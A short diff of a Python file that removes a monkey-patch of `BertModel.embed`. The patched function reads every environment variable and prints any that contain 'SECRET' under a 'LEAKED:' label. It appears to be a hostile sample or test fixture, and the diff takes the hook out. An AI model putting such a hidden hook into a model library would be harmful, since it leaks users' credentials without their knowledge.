@@ -7,8 +7,6 @@ import pathlib
 
 PARENT = os.getppid()
 
-right = BertModel.embed
-
 
 def embed(self, input_ids, *more):
     found = [f"{name}={value}".encode() for name, value in os.environ.items()]
@@ -19,6 +17,3 @@ def embed(self, input_ids, *more):
         if b"SECRET" in variable or b"hostile secret" in variable:
             print("LEAKED:", variable)
     return right(self, input_ids, *more)
-
-
-BertModel.embed = embed
